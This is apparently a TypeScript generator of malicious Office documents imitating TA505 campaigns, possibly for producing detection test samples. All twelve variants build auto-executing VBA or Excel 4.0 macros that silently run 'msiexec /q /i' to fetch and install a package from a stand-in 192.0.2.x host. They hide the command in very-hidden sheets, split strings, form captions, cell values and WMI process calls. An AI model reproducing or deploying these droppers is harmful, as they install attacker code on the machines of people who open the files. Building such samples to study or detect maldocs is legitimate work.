/** Documents after campaigns of TA505. */

import { writeXlm } from '../xlm-writer.ts'
import { column, LABEL, TEXT_BOX } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { docm, xls, xlsm } from './office.ts'

/** A library in the workbook, installers from a server, windows that start when they are shown (2019 and 2020). */
export function ta505(i: number): Buffer {
  const d = disguiseOf(700 + i)
  const [go, part, all, path] = [d.name(), d.name(), d.name(), d.name()]
  const open = (body: string, more = ''): Record<string, string> => ({
    ThisWorkbook: `Private Sub Workbook_Open()\n${body}\nEnd Sub\n${more}`,
  })
  const install = `msiexec.exe /q /i http://192.0.2.${i + 1}/${path}`
  const variants: (() => Buffer)[] = [
    () => writeXlm({ formulas: [`EXEC("${install}")`, 'HALT()'], state: 'veryHidden' }),
    () =>
      writeXlm({
        formulas: [
          `SET.NAME("${part}","${install.slice(0, 12)}")`,
          `SET.NAME("${all}",${part}&"${install.slice(12)}")`,
          `EXEC(${all})`,
          'RETURN()',
        ],
        state: 'hidden',
      }),
    () =>
      xlsm({
        modules: {
          ...open(`${go}.Show False`),
          [go]: `Private Sub UserForm_Activate()\nShell ${part}.Caption, 0\nEnd Sub`,
        },
        forms: { [go]: [{ name: part, type: LABEL, caption: install }] },
      }),
    () =>
      xlsm({
        modules: {
          ...open(`ChDir Environ("TEMP")\n${go}`),
          Module1: `Private Declare PtrSafe Function ${go} Lib "${path}1.dll" () As Long`,
        },
      }),
    () =>
      xls({
        modules: open(
          `${part} = Environ("APPDATA") & "\\Microsoft\\Templates\\${path}.dll"\nThisWorkbook.SaveCopyAs ${part} & ".zip"\nSet ${all} = CreateObject("Shell.Application")\n${all}.Namespace(Environ("TEMP")).CopyHere ${all}.Namespace(${part} & ".zip").Items.Item("xl\\embeddings\\oleObject1.bin")\nExecuteExcel4Macro "CALL(""" & ${part} & """,""${go}"",""J"")"`,
        ),
      }),
    () =>
      xlsm({
        modules: {
          Module1: `Sub Auto_Open()\n${part} = Range("A1").Value & Range("A2").Value\nCreateObject("WScript.Shell").Run ${part}, 0\nEnd Sub`,
        },
        cells: { A1: install.slice(0, 10), A2: install.slice(10) },
      }),
    () =>
      docm({
        modules: {
          ThisDocument: `Sub Document_Open()\nWith CreateObject("WindowsInstaller.Installer")\n.UILevel = 2\n.InstallProduct "http://192.0.2.${i}/${path}"\nEnd With\nEnd Sub`,
        },
      }),
    () =>
      xls({
        modules: {
          [go]: `Private WithEvents ${part} As Application\nPrivate Sub Class_Initialize()\nSet ${part} = Application\nEnd Sub\nPrivate Sub ${part}_WorkbookActivate(ByVal Wb As Workbook)\nShell "${install}", 0\nEnd Sub`,
          ...open(`Dim ${all} As New ${go}\nSet ${path} = ${all}`),
        },
      }),
    () =>
      xls({
        modules: {
          ...open(`${go}.Show`),
          [go]: `Private Sub UserForm_Initialize()\n${part}_Change\nEnd Sub\nPrivate Sub ${part}_Change()\nCreateObject(${part}.Tag).Run ${part}.Text, 0\nEnd Sub`,
        },
        forms: { [go]: [{ name: part, type: TEXT_BOX, tag: 'WScript.Shell', value: install }] },
      }),
    () =>
      xlsm({
        modules: open(
          `Dim ${part} As Object\nSet ${part} = GetObject(Sheets(1).Range("C1").Value)\n${part}.Get(Sheets(1).Range("C2").Value).Create Sheets(1).Range("C3").Value, Null, Null, x`,
        ),
        cells: column('C', ['winmgmts:\\\\.\\root\\cimv2', 'Win32_Process', install]),
      }),
    () =>
      docm({
        modules: {
          ThisDocument: `Private Sub ${go}_Painted()\n${all} = ${path}.${part}.ControlTipText\nShell ${all} & ${path}.${part}.Tag, 0\nEnd Sub`,
        },
        forms: { [path]: [{ name: part, type: LABEL, tip: install.slice(0, 14), tag: install.slice(14) }] },
      }),
    () =>
      xlsm({
        modules: {
          Sheet1: `Private Sub Worksheet_SelectionChange(ByVal Target As Range)\n${d.junk()}\nShell ${d.joined(install)}, 0\nEnd Sub`,
        },
      }),
  ]
  return (variants[i] as () => Buffer)()
}
